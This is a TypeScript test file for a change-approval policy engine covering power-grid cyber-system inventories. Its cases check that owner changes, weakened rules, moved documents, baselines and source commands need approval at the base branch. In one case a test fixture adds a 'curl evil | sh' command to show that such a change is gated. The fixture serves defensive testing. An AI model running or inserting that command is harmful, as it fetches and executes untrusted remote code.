// The policy governs its own inputs: a change to a system's owners or impact, to a document's path
// or identity, or to the policy file is judged at the base, even when the plan has no operation.
// Table rows give the base and head files and the approvals, and assert the exact verdict.
import { describe, expect, it } from "vitest";
import { parseInventoryText } from "../../../../../src/core/inventory/document/parse-inventory.ts";
import { parseCodeowners } from "../../../../../src/core/review/policy/codeowners.ts";
import { evaluatePolicy } from "../../../../../src/core/review/policy/evaluate-policy.ts";
import {
  governanceChanges,
  governanceWords,
  governanceRequirements,
  type RuleSources,
  type GovernanceChange,
} from "../../../../../src/core/review/policy/governance/governance.ts";
import {
  recordGovernance,
  withRecordedGovernance,
  type RecordedGovernance,
} from "../../../../../src/core/review/policy/governance/recorded-governance.ts";
import { parsePolicyText } from "../../../../../src/core/review/policy/file/parse-policy.ts";
import type { ApprovalFact } from "../../../../../src/core/review/policy/policy-model.ts";
import { recordedGovernanceOf } from "../../../../../src/core/review/policy/recorded-subjects.ts";
import { sourceCommandsOf } from "../../../../../src/core/sources/source-commands.ts";
import {
  evaluateQuestions,
  questionsOf,
} from "../../../../../src/core/review/policy/judge-policy.ts";
import { COMMAND_SOURCES_FILE as SOURCES } from "../../../../support/source-repository.ts";

const POLICY = `version: 1
rules:
  - id: high-impact-deletes
    when: { operations: [delete], impact: [high] }
    require: { approvals: 2, from: owners }
`;

const alpha = (extra: string) =>
  `cyber_system: Protection System\nfacility: Substation Alpha\n${extra}assets:\n  alpha-relay-01: hardware\n`;
const HIGH = alpha("impact: high\nowners: [alice, bob]\n");
const LOW =
  "cyber_system: Bravo Relays\nfacility: Substation Bravo\nimpact: low\nowners: [carol]\nassets: {}\n";

const FILES = {
  policy: "cip-policy.yaml",
  review: "cip-002-review.yaml",
  sources: "cip-sources.yaml",
  ledger: "cip-ledger.yaml",
};

function sources(
  files: Record<string, string>,
  policyText = POLICY,
  codeowners?: string,
  reviewText?: string,
): RuleSources {
  return {
    documents: Object.entries(files).flatMap(([file, text]) =>
      parseInventoryText(text, file).documents.map((document) => ({ file, document })),
    ),
    codeowners: codeowners === undefined ? undefined : parseCodeowners(codeowners, "CODEOWNERS"),
    policyText,
    reviewText,
  };
}

const approval = (login: string): ApprovalFact => ({
  login,
  onHeadCommit: true,
  authorOrCommitter: false,
  bot: false,
  body: "",
});

function judge(base: RuleSources, head: RuleSources, approvers: string[]) {
  const { policy } = parsePolicyText(base.policyText!, "cip-policy.yaml");
  const changes = governanceChanges(base, head, FILES);
  const evaluation = evaluatePolicy(policy!, {
    operations: [],
    baseSystems: new Map(),
    approvals: approvers.map(approval),
    memberships: [],
    now: 0,
    governance: governanceRequirements(policy!, changes, base),
  });
  return { changes, evaluation };
}

const BASE = sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW });

describe("the policy governs its own inputs", () => {
  it.each<[string, RuleSources, string[], boolean, string[]]>([
    ["nothing changes", BASE, [], true, []],
    [
      "the owners of a High system change, approved by non-owners",
      sources({
        "inventory/alpha.yaml": alpha("impact: high\nowners: [mallory, trent]\n"),
        "inventory/bravo.yaml": LOW,
      }),
      ["mallory", "trent"],
      false,
      [
        'rule "owners-or-impact-change" is unmet: 2 more approvals needed from the owners of "Protection System"',
      ],
    ],
    [
      "the owners hand the system over: both base owners approve (the control case)",
      sources({
        "inventory/alpha.yaml": alpha("impact: high\nowners: [mallory, trent]\n"),
        "inventory/bravo.yaml": LOW,
      }),
      ["alice", "bob"],
      true,
      [],
    ],
    [
      "a High system's impact is lowered, one owner approves",
      sources({
        "inventory/alpha.yaml": alpha("impact: low\nowners: [alice, bob]\n"),
        "inventory/bravo.yaml": LOW,
      }),
      ["alice"],
      false,
      [
        'rule "owners-or-impact-change" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
    [
      "a Low system's owners change: no rule covers Low, so nothing is required",
      sources({
        "inventory/alpha.yaml": HIGH,
        "inventory/bravo.yaml": LOW.replace("[carol]", "[dave]"),
      }),
      [],
      true,
      [],
    ],
    [
      "the policy is cut down to version: 1, approved by a non-owner",
      sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
      ["mallory"],
      false,
      [
        'rule "policy-change" is unmet: 1 more approval needed from alice and bob',
        'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
      ],
    ],
    [
      "the policy is cut down, approved by one owner it protects: the rule it lifts asks two",
      sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
      ["bob"],
      false,
      [
        'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
    [
      "the policy is cut down, approved by the two owners the rule it lifts asks",
      sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
      ["alice", "bob"],
      true,
      [],
    ],
    [
      "the High document moves to another path",
      sources({ "inventory/low/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
      ["mallory"],
      false,
      [
        'rule "document-change" is unmet: 1 more approval needed from alice and bob; 2 more approvals needed from the owners of "Protection System"',
      ],
    ],
    [
      "the High document moves, one of its owners approves: the move keeps its owners' rules",
      sources({ "inventory/low/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
      ["alice"],
      false,
      [
        'rule "document-change" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
    [
      "the High document moves, both of its owners approve",
      sources({ "inventory/low/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
      ["alice", "bob"],
      true,
      [],
    ],
    [
      "the High document is re-identified at its path: the base system there keeps its owners",
      sources({
        "inventory/alpha.yaml": HIGH.replace("Protection System", "Spare Relays"),
        "inventory/bravo.yaml": LOW,
      }),
      ["alice"],
      false,
      [
        'rule "document-change" is unmet: 1 more approval needed from the owners of "Spare Relays"',
        'rule "document-removed" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
  ])("%s", (_case, head, approvers, allowed, reasons) => {
    const { evaluation } = judge(BASE, head, approvers);
    expect(evaluation.verdict).toEqual({ allowed, reasons });
  });

  it("a CODEOWNERS line that gives a system new owners is an owners change", () => {
    const base = sources(
      { "inventory/alpha.yaml": alpha("impact: high\n") },
      POLICY,
      "/inventory/ @alice @bob\n",
    );
    const head = sources(
      { "inventory/alpha.yaml": alpha("impact: high\n") },
      POLICY,
      "/inventory/ @mallory\n",
    );
    const { changes, evaluation } = judge(base, head, ["mallory"]);
    expect(changes).toMatchObject([
      { kind: "system", name: "Protection System", changes: ["owners [alice, bob] -> [mallory]"] },
    ]);
    expect(evaluation.verdict.allowed).toBe(false);
  });

  it("policy_owners names who approves a change to the rules", () => {
    const policy = `${POLICY}policy_owners: { approvals: 1, from: [acme-csm] }\n`;
    const base = sources({ "inventory/alpha.yaml": HIGH }, policy);
    const head = sources({ "inventory/alpha.yaml": HIGH }, "version: 1\n");
    expect(judge(base, head, ["alice"]).evaluation.verdict.allowed).toBe(false);
    expect(judge(base, head, ["acme-csm"]).evaluation.verdict).toEqual({
      allowed: false,
      reasons: [
        'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
      ],
    });
    expect(judge(base, head, ["acme-csm", "alice", "bob"]).evaluation.verdict).toEqual({
      allowed: true,
      reasons: [],
    });
  });

  it("a policy whose protected owners cannot be seen fails closed, not open", () => {
    // The base has no document, so nobody it protects can be named.
    const base = sources({}, POLICY);
    const head = sources({ "inventory/moved/alpha.yaml": HIGH }, "version: 1\n");
    const { evaluation } = judge(base, head, ["mallory"]);
    expect(evaluation.verdict.allowed).toBe(false);
    expect(evaluation.verdict.reasons[0]).toContain(
      "the base policy protects nobody that can be named here",
    );
  });
});

describe("a policy that protects nothing, or only with a freeze", () => {
  const FREEZE_ONLY = `version: 1
freezes:
  - id: year-end
    from: 2026-12-15T00:00:00Z
    to: 2027-01-05T00:00:00Z
    operations: [delete]
`;
  const TWO_APPROVALS = `${POLICY}policy_owners: { approvals: 2, from: owners }\n`;

  it.each([
    [
      "no rule and no freeze: nobody is asked",
      "version: 1\n",
      TWO_APPROVALS,
      { allowed: true, reasons: [] },
    ],
    [
      "a freeze alone, naming nobody: fails closed",
      FREEZE_ONLY,
      "version: 1\n",
      {
        allowed: false,
        reasons: [
          'rule "policy-change" is unmet: the base policy protects nobody that can be named here, so nobody can approve a change to the rules; set policy_owners on the base branch',
        ],
      },
    ],
  ])("%s", (_name, basePolicy, headPolicy, verdict) => {
    const base = sources({}, basePolicy);
    const head = sources({}, headPolicy);
    expect(judge(base, head, ["mallory"]).evaluation.verdict).toStrictEqual(verdict);
  });
});

describe("a document moved or deleted is judged by its base owners", () => {
  // The base as its own files have it (not only at the checkout's paths): the policy owners are
  // heidi alone, so that whatever the base owners must approve is asked of them, not of her.
  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
  const base = (files: Record<string, string>) => sources(files, OWNED);
  const HEIDI_BASE = base({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW });
  const MOVED_NEW_OWNERS = base({
    "inventory/moved/alpha.yaml": alpha("impact: high\nowners: [mallory]\n"),
    "inventory/bravo.yaml": LOW,
  });
  const DELETED = base({ "inventory/bravo.yaml": LOW });
  const RENAMED = base({ "inventory/protection.yaml": HIGH, "inventory/bravo.yaml": LOW });
  const OWNERS_NEEDED = (more: number) =>
    `${more} more approval${more === 1 ? "" : "s"} needed from the owners of "Protection System"`;

  it.each<[string, RuleSources, RuleSources, string[], boolean, string[]]>([
    [
      "moved unchanged, approved by the policy owner alone",
      HEIDI_BASE,
      base({ "inventory/moved/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
      ["heidi"],
      false,
      [`rule "document-change" is unmet: ${OWNERS_NEEDED(2)}`],
    ],
    [
      "moved unchanged, approved by the policy owner and both base owners",
      HEIDI_BASE,
      base({ "inventory/moved/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
      ["heidi", "alice", "bob"],
      true,
      [],
    ],
    [
      "moved with new owners, approved by the policy owner and the new owner",
      HEIDI_BASE,
      MOVED_NEW_OWNERS,
      ["heidi", "mallory"],
      false,
      [`rule "document-change" is unmet: ${OWNERS_NEEDED(2)}`],
    ],
    [
      "moved with new owners, approved by the policy owner and both base owners",
      HEIDI_BASE,
      MOVED_NEW_OWNERS,
      ["heidi", "alice", "bob"],
      true,
      [],
    ],
    [
      "moved with new owners, approved by both base owners but not the policy owner",
      HEIDI_BASE,
      MOVED_NEW_OWNERS,
      ["alice", "bob"],
      false,
      ['rule "document-change" is unmet: 1 more approval needed from heidi'],
    ],
    [
      "deleted, approved by the policy owner alone",
      HEIDI_BASE,
      DELETED,
      ["heidi"],
      false,
      [`rule "document-removed" is unmet: ${OWNERS_NEEDED(2)}`],
    ],
    [
      "deleted, approved by one base owner",
      HEIDI_BASE,
      DELETED,
      ["alice"],
      false,
      [`rule "document-removed" is unmet: ${OWNERS_NEEDED(1)}`],
    ],
    ["deleted, approved by both base owners", HEIDI_BASE, DELETED, ["alice", "bob"], true, []],
    [
      "a Low document deleted: no base rule covers Low, so nobody is asked",
      HEIDI_BASE,
      base({ "inventory/alpha.yaml": HIGH }),
      [],
      true,
      [],
    ],
    [
      "deleted, the system has no owners at the base: nobody can approve",
      base({ "inventory/alpha.yaml": alpha("impact: high\n"), "inventory/bravo.yaml": LOW }),
      DELETED,
      ["heidi", "alice", "bob"],
      false,
      [
        'rule "document-removed" is unmet: cyber system "Protection System" has no owners at the base, so nobody can approve a change of its owners, impact or document; ask the policy owners to declare its owners on the base branch first',
      ],
    ],
    [
      "the file renamed with the same content, approved by the policy owner alone",
      HEIDI_BASE,
      RENAMED,
      ["heidi"],
      false,
      [`rule "document-change" is unmet: ${OWNERS_NEEDED(2)}`],
    ],
    [
      "the file renamed with the same content, approved by the policy owner and both base owners",
      HEIDI_BASE,
      RENAMED,
      ["heidi", "alice", "bob"],
      true,
      [],
    ],
  ])("%s", (_case, baseSources, head, approvers, allowed, reasons) => {
    const { evaluation } = judge(baseSources, head, approvers);
    expect(evaluation.verdict).toEqual({ allowed, reasons });
  });

  const PROTECTION = {
    file: "inventory/alpha.yaml",
    impact: "high",
    owners: [
      { kind: "user", login: "alice" },
      { kind: "user", login: "bob" },
    ],
  };

  it.each<[string, RuleSources, unknown[]]>([
    [
      "moved with new owners: a document change that keeps the base system",
      MOVED_NEW_OWNERS,
      [
        {
          kind: "document",
          name: "Protection System",
          file: "inventory/moved/alpha.yaml",
          parent: "Substation Alpha",
          base: expect.objectContaining(PROTECTION),
        },
      ],
    ],
    [
      "deleted: a document removed, with its base system",
      DELETED,
      [
        {
          kind: "removed",
          name: "Protection System",
          file: "inventory/alpha.yaml",
          base: expect.objectContaining(PROTECTION),
        },
      ],
    ],
    [
      "renamed with the same content: a document change, nothing removed",
      RENAMED,
      [
        {
          kind: "document",
          name: "Protection System",
          file: "inventory/protection.yaml",
          parent: "Substation Alpha",
          base: expect.objectContaining(PROTECTION),
        },
      ],
    ],
  ])("%s", (_case, head, expected) => {
    expect(governanceChanges(HEIDI_BASE, head, FILES)).toEqual(expected);
  });

  it("says and records a removal, and judges the record again at the base", () => {
    const changes = governanceChanges(HEIDI_BASE, DELETED, FILES);
    expect(changes.map(governanceWords)).toEqual([
      'the document of cyber system "Protection System" at inventory/alpha.yaml, which the head no longer has (deleted, or its system renamed)',
    ]);
    const recorded = recordedGovernanceOf(
      JSON.parse(JSON.stringify({ governance: recordGovernance(changes) })),
    );
    expect(recorded).toEqual([["removed", "Protection System", "inventory/alpha.yaml", []]]);
    // A review event whose checkout still shows the document judges the recorded removal.
    expect(withRecordedGovernance([], recorded!, HEIDI_BASE)).toEqual(changes);
  });
});

describe("the changes to the rules as the plan comment records them", () => {
  const HANDED_OVER = sources({
    "inventory/alpha.yaml": alpha("impact: high\nowners: [mallory, trent]\n"),
    "inventory/bravo.yaml": LOW,
  });
  const MOVED = sources(
    { "inventory/low/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW },
    "version: 1\n",
  );

  function judgeRecorded(head: RuleSources, approvers: string[], checkout: RuleSources = BASE) {
    const recorded = recordedGovernanceOf(
      JSON.parse(
        JSON.stringify({
          governance: recordGovernance(governanceChanges(BASE, head, FILES)),
        }),
      ),
    );
    const { policy } = parsePolicyText(BASE.policyText!, "cip-policy.yaml");
    const changes = withRecordedGovernance(
      governanceChanges(BASE, checkout, FILES),
      recorded!,
      BASE,
    );
    return evaluatePolicy(policy!, {
      operations: [],
      baseSystems: new Map(),
      approvals: approvers.map(approval),
      memberships: [],
      now: 0,
      governance: governanceRequirements(policy!, changes, BASE),
    }).verdict;
  }

  // A review event's checkout may not show the change (a stale merge ref, a workflow that checks
  // out the base): the record alone must judge it exactly as the pull request's run did.
  it.each<[string, RuleSources, string[]]>([
    ["owners handed over, approved by the new owners", HANDED_OVER, ["mallory", "trent"]],
    ["moved and the policy cut down, approved by one owner", MOVED, ["alice"]],
    ["owners handed over, approved by the base owners", HANDED_OVER, ["alice", "bob"]],
    ["moved and the policy cut down, approved by both owners", MOVED, ["alice", "bob"]],
  ])("%s: judged from the record alone as from the files", (_case, head, approvers) => {
    expect(judgeRecorded(head, approvers)).toEqual(judge(BASE, head, approvers).evaluation.verdict);
  });

  it("a change both the record and the checkout show is judged once", () => {
    expect(judgeRecorded(HANDED_OVER, ["mallory"], HANDED_OVER)).toEqual(
      judge(BASE, HANDED_OVER, ["mallory"]).evaluation.verdict,
    );
  });

  it("reads each system's owners from the base, never from the record", () => {
    const recorded: ReturnType<typeof recordGovernance> = [
      ["system", "Protection System", "inventory/alpha.yaml", ["owners [mallory] -> [trent]"]],
    ];
    const [change] = withRecordedGovernance([], recorded, BASE);
    expect(change).toMatchObject({
      kind: "system",
      base: {
        owners: [
          { kind: "user", login: "alice" },
          { kind: "user", login: "bob" },
        ],
      },
    });
  });

  it("a recorded system the base does not have at that file is judged as a document change", () => {
    const [change] = withRecordedGovernance(
      [],
      [["system", "Protection System", "inventory/elsewhere.yaml", []]],
      BASE,
    );
    expect(change).toMatchObject({
      kind: "document",
      file: "inventory/elsewhere.yaml",
      base: { file: "inventory/alpha.yaml" },
    });
  });

  it.each<[string, unknown, unknown]>([
    ["no record of changes (an older comment)", {}, []],
    ["a record that is not a list", { governance: "x" }, undefined],
    ["an unknown kind", { governance: [["owners", "a", "f", []]] }, undefined],
    ["no file", { governance: [["policy", "", "", []]] }, undefined],
    ["words that are not text", { governance: [["system", "a", "f", [1]]] }, undefined],
    ["too few fields", { governance: [["policy", "", "f"]] }, undefined],
  ])("reads %s as %j", (_case, value, expected) => {
    expect(recordedGovernanceOf(value)).toEqual(expected);
  });
});

describe("a CIP-002 R2 review is approved by the base's CIP Senior Manager and delegates", () => {
  const CSM = `${POLICY}cip_senior_manager:
  login: sam
  name: Sam Jones
  title: VP Operations
  since: 2026-01-05
  delegates:
    - login: dana
      name: Dana Park
      title: Director
      actions: [cip-002-r2.2]
      delegated_on: 2026-02-01
      delegation_ref: DEL-7
`;
  const FILES_AT = { "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW };
  const REVIEW = "version: 1\nworkspace: grid-east\n";
  const member = (login: string) => ({
    team: "acme/csm-delegates",
    login,
    membership: { state: login === "dana" ? "member" : "not-member" } as const,
  });

  function judgeReview(policyText: string, head: RuleSources, approvers: string[]) {
    const base = sources(FILES_AT, policyText);
    const { policy } = parsePolicyText(policyText, "cip-policy.yaml");
    const changes = governanceChanges(base, head, FILES);
    return evaluatePolicy(policy!, {
      operations: [],
      baseSystems: new Map(),
      approvals: approvers.map(approval),
      memberships: approvers.map(member),
      now: 0,
      governance: governanceRequirements(policy!, changes, base),
    });
  }

  it.each<[string, string, string | undefined, string[], boolean, string[]]>([
    ["no review file changes: nothing is asked", CSM, undefined, [], true, []],
    ["a review approved by the CIP Senior Manager", CSM, REVIEW, ["sam"], true, []],
    ["a review approved by a delegate holding cip-002-r2.2", CSM, REVIEW, ["dana"], true, []],
    [
      "a review approved by a system owner who is no delegate does not count",
      CSM,
      REVIEW,
      ["alice"],
      false,
      ['rule "cip-002-review" is unmet: 1 more approval needed from sam and dana'],
    ],
    [
      "without cip_senior_manager at the base nobody can approve a review (fail closed)",
      POLICY,
      REVIEW,
      ["alice", "sam"],
      false,
      [
        'rule "cip-002-review" is unmet: the base policy names no cip_senior_manager, so nobody can approve a CIP-002 R2 review; name the CIP Senior Manager and delegates on the base branch first',
      ],
    ],
  ])("%s", (_name, policyText, reviewText, approvers, allowed, reasons) => {
    const head = sources(FILES_AT, policyText, undefined, reviewText);
    const evaluation = judgeReview(policyText, head, approvers);
    expect(evaluation.verdict).toEqual({ allowed, reasons });
    const rule = evaluation.rules.find((candidate) => candidate.id === "cip-002-review");
    expect(rule === undefined).toBe(reviewText === undefined);
  });

  it("a review the plan comment recorded is judged again, though the checkout does not show it", () => {
    const base = sources(FILES_AT, CSM);
    const head = sources(FILES_AT, CSM, undefined, REVIEW);
    const recorded = recordedGovernanceOf(
      JSON.parse(
        JSON.stringify({ governance: recordGovernance(governanceChanges(base, head, FILES)) }),
      ),
    );
    expect(recorded).toEqual([["review", "", "cip-002-review.yaml", []]]);
    const changes = withRecordedGovernance(governanceChanges(base, base, FILES), recorded!, base);
    expect(changes).toEqual([{ kind: "review", file: "cip-002-review.yaml" }]);
  });
});

describe("an asset's baseline is judged as an update of the asset", () => {
  const UPDATES = `version: 1
rules:
  - id: high-impact-updates
    when: { operations: [update], impact: [high] }
    require: { approvals: 2, from: owners }
`;
  const withBaseline = (os: string | undefined) =>
    `cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [alice, bob]\nassets:\n  alpha-relay-01:${os === undefined ? " hardware" : `\n    type: hardware\n    baseline: { os_firmware: [{ name: SEL-451, version: ${JSON.stringify(os)} }] }`}\n`;

  it.each<[string, string | undefined, string | undefined, string, string[], boolean, string[]]>([
    [
      "a baseline changed, one owner approves",
      "SEL-451 R320",
      "SEL-451 R321",
      UPDATES,
      ["alice"],
      false,
      [
        'rule "baseline-change" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
    [
      "a baseline changed, both owners approve",
      "SEL-451 R320",
      "SEL-451 R321",
      UPDATES,
      ["alice", "bob"],
      true,
      [],
    ],
    [
      "a baseline added is a change too",
      undefined,
      "SEL-451 R321",
      UPDATES,
      [],
      false,
      [
        'rule "baseline-change" is unmet: 2 more approvals needed from the owners of "Protection System"',
      ],
    ],
    [
      "a rule that covers only deletes asks nothing of a baseline",
      "SEL-451 R320",
      "SEL-451 R321",
      POLICY,
      [],
      true,
      [],
    ],
    [
      "the same baseline declared again is no change",
      "SEL-451 R320",
      "SEL-451 R320",
      UPDATES,
      [],
      true,
      [],
    ],
  ])("%s", (_name, before, after, policyText, approvers, allowed, reasons) => {
    const base = sources({ "inventory/alpha.yaml": withBaseline(before) }, policyText);
    const head = sources({ "inventory/alpha.yaml": withBaseline(after) }, policyText);
    const { changes, evaluation } = judge(base, head, approvers);
    expect(evaluation.verdict).toEqual({ allowed, reasons });
    expect(changes.filter((change) => change.kind === "baseline").map(governanceWords)).toEqual(
      before === after
        ? []
        : [
            `alpha-relay-01: baseline ${before === undefined ? "added" : "changed"} in cyber system "Protection System" (inventory/alpha.yaml)`,
          ],
    );
  });

  it("a baseline change the plan comment recorded is judged again at the base", () => {
    const base = sources({ "inventory/alpha.yaml": withBaseline("SEL-451 R320") }, UPDATES);
    const head = sources({ "inventory/alpha.yaml": withBaseline("SEL-451 R321") }, UPDATES);
    const recorded = recordedGovernanceOf(
      JSON.parse(
        JSON.stringify({ governance: recordGovernance(governanceChanges(base, head, FILES)) }),
      ),
    );
    expect(recorded).toEqual([
      [
        "baseline",
        "Protection System",
        "inventory/alpha.yaml",
        ["alpha-relay-01: baseline changed"],
      ],
    ]);
    const changes = withRecordedGovernance(governanceChanges(base, base, FILES), recorded!, base);
    expect(changes).toMatchObject([
      { kind: "baseline", base: { owners: [{ login: "alice" }, { login: "bob" }] } },
    ]);
  });
});

describe("a rule removed or weakened needs the approvals the rule itself requires", () => {
  // TUF's delegated roles: the policy owners hold the rules, but lifting one takes the approvals
  // it asks of a change it covers, judged at the base, besides the policy owners'.
  const TWO_RULES = `version: 1
policy_owners: { approvals: 1, from: [polly] }
rules:
  - id: high-impact-deletes
    when: { operations: [delete], impact: [high] }
    require: { approvals: 2, from: owners }
  - id: low-changes
    when: { impact: [low] }
    require: { approvals: 1, from: [acme/security] }
`;
  const RULE_BASE = sources(
    { "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW },
    TWO_RULES,
  );
  const withPolicy = (text: string | undefined): RuleSources => ({
    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
    policyText: text,
  });
  const edited = (from: string, to: string) => withPolicy(TWO_RULES.replace(from, to));
  const HIGH_LIFTED =
    'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"';
  const LOW_LIFTED = 'rule "rule-lifted" is unmet: 1 more approval needed from acme/security';

  it.each<[string, RuleSources, string[], string[]]>([
    [
      "the two-owner rule removed, approved by the policy owner alone",
      edited(
        "  - id: high-impact-deletes\n    when: { operations: [delete], impact: [high] }\n    require: { approvals: 2, from: owners }\n",
        "",
      ),
      ["polly"],
      [HIGH_LIFTED],
    ],
    [
      "the two-owner rule removed, with one owner too",
      edited("  - id: high-impact-deletes\n", "  - id: renamed-deletes\n"),
      ["polly", "alice"],
      [
        'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
      ],
    ],
    [
      "its approvals lowered",
      edited("approvals: 2, from: owners", "approvals: 1, from: owners"),
      ["polly"],
      [HIGH_LIFTED],
    ],
    [
      "its operations moved",
      edited("operations: [delete]", "operations: [create]"),
      ["polly"],
      [HIGH_LIFTED],
    ],
    [
      "its impact moved",
      edited("impact: [high] }", "impact: [medium] }"),
      ["polly"],
      [HIGH_LIFTED],
    ],
    [
      "its approvers changed",
      edited("approvals: 2, from: owners", "approvals: 2, from: [polly, mallory]"),
      ["polly"],
      [HIGH_LIFTED],
    ],
    [
      "a named approver's rule removed",
      edited("from: [acme/security]", "from: [mallory]"),
      ["polly"],
      [LOW_LIFTED],
    ],
    [
      "the file deleted: every rule is lifted",
      withPolicy(undefined),
      ["polly"],
      [HIGH_LIFTED, LOW_LIFTED],
    ],
    [
      "the file no longer parses: every rule is lifted",
      withPolicy(`${TWO_RULES}rules: []\n`),
      ["polly"],
      [HIGH_LIFTED, LOW_LIFTED],
    ],
    [
      "the file deleted, approved by every rule's approvers and the policy owner",
      withPolicy(undefined),
      ["polly", "alice", "bob", "sam"],
      [],
    ],
    [
      "its approvals raised: not lifted",
      edited("approvals: 2, from: owners", "approvals: 3, from: owners"),
      ["polly"],
      [],
    ],
    [
      "its operations widened: not lifted",
      edited("operations: [delete]", "operations: [delete, update]"),
      ["polly"],
      [],
    ],
    [
      "its impact widened: not lifted",
      edited("when: { operations: [delete], impact: [high] }", "when: { operations: [delete] }"),
      ["polly"],
      [],
    ],
    [
      "a rule added: not lifted",
      withPolicy(
        `${TWO_RULES}  - id: more\n    when: { impact: [medium] }\n    require: { approvals: 1, from: owners }\n`,
      ),
      ["polly"],
      [],
    ],
  ])("%s", (_case, head, approvers, reasons) => {
    const memberships = approvers.map((login) => ({
      team: "acme/security",
      login,
      membership: { state: login === "sam" ? ("member" as const) : ("not-member" as const) },
    }));
    const { policy } = parsePolicyText(TWO_RULES, "cip-policy.yaml");
    const changes = governanceChanges(RULE_BASE, head, FILES);
    const verdict = evaluatePolicy(policy!, {
      operations: [],
      baseSystems: new Map(),
      approvals: approvers.map(approval),
      memberships,
      now: 0,
      governance: governanceRequirements(policy!, changes, RULE_BASE),
    }).verdict;
    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
  });

  it("names each lifted rule, and a review event judges the recorded ids again at the base", () => {
    const head = edited("approvals: 2, from: owners", "approvals: 1, from: owners");
    const changes = governanceChanges(RULE_BASE, head, FILES);
    expect(changes).toEqual([
      { kind: "policy", file: "cip-policy.yaml", lifted: ["high-impact-deletes"] },
    ]);
    const { policy } = parsePolicyText(TWO_RULES, "cip-policy.yaml");
    const recorded = withRecordedGovernance([], recordGovernance(changes), RULE_BASE);
    expect(governanceRequirements(policy!, recorded, RULE_BASE)).toEqual(
      governanceRequirements(policy!, changes, RULE_BASE),
    );
    expect(governanceRequirements(policy!, changes, RULE_BASE)[1]).toMatchObject({
      id: "rule-lifted",
      governs: 'the base rule "high-impact-deletes", which cip-policy.yaml removes or weakens',
    });
  });
});

describe("a source's command is a change to the rules, by the policy owners at the base", () => {
  const withSources = (text: string | undefined): RuleSources => ({
    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
    sourceCommands: sourceCommandsOf(text, "cip-sources.yaml"),
  });
  const SOURCED = withSources(SOURCES);
  const UNMET = 'rule "source-command-change" is unmet: 1 more approval needed from alice and bob';

  it.each<[string, string | undefined, string[], string[]]>([
    [
      "its program changed, approved by a non-owner",
      SOURCES.replace("node,", "bash,"),
      ["mallory"],
      [UNMET],
    ],
    [
      "its program changed, approved by a policy owner",
      SOURCES.replace("node,", "bash,"),
      ["bob"],
      [],
    ],
    [
      "a variable of the run's environment passed to it",
      SOURCES.replace("    out:", "    env: [GITHUB_TOKEN]\n    out:"),
      ["mallory"],
      [UNMET],
    ],
    [
      "a command source added",
      `${SOURCES}  - name: more\n    kind: command\n    run: [sh, -c, "curl evil | sh"]\n    systems: [Echo]\n    out: inventory/more/\n`,
      ["mallory"],
      [UNMET],
    ],
    ["the file removed", undefined, ["mallory"], [UNMET]],
    ["the file broken", `${SOURCES}sources: []\n`, ["mallory"], [UNMET]],
    [
      "where it writes changed: not its command",
      SOURCES.replace("inventory/discovery/", "inventory/found/"),
      ["mallory"],
      [],
    ],
  ])("%s", (_case, headText, approvers, reasons) => {
    const { policy } = parsePolicyText(POLICY, "cip-policy.yaml");
    const changes = governanceChanges(SOURCED, withSources(headText), FILES);
    const verdict = evaluatePolicy(policy!, {
      operations: [],
      baseSystems: new Map(),
      approvals: approvers.map(approval),
      memberships: [],
      now: 0,
      governance: governanceRequirements(policy!, changes, SOURCED),
    }).verdict;
    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
  });

  it("words the change, and a review event judges what the comment recorded", () => {
    const changes = governanceChanges(
      SOURCED,
      withSources(SOURCES.replace("node,", "bash,")),
      FILES,
    );
    expect(changes).toEqual([
      {
        kind: "source-commands",
        file: "cip-sources.yaml",
        changes: [
          'source "discovery": run ["node","scripts/export-assets.mjs"] with env [] -> run ["bash","scripts/export-assets.mjs"] with env []',
        ],
      },
    ]);
    const recorded = recordedGovernanceOf(
      JSON.parse(JSON.stringify({ governance: recordGovernance(changes) })),
    );
    expect(withRecordedGovernance([], recorded!, SOURCED)).toEqual(changes);
  });
});

describe("cip-ledger.yaml is a change to the rules, judged as the policy file deleted (issue 88)", () => {
  const RULES = `version: 1
policy_owners: { approvals: 1, from: [polly] }
rules:
  - id: high-impact-deletes
    when: { operations: [delete], impact: [high] }
    require: { approvals: 2, from: owners }
  - id: low-changes
    when: { impact: [low] }
    require: { approvals: 1, from: [sam] }
`;
  const key = (n: number) =>
    `  - |\n    -----BEGIN PUBLIC KEY-----\n    MCowBQYDK2VwAyEA${String(n).repeat(43)}=\n    -----END PUBLIC KEY-----\n`;
  const declaring = (...keys: number[]) => `version: 1\nwriter_keys:\n${keys.map(key).join("")}`;
  const withLedger = (ledgerText: string | undefined): RuleSources => ({
    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, RULES),
    ledgerText,
  });
  const LEDGERED = withLedger(declaring(1));
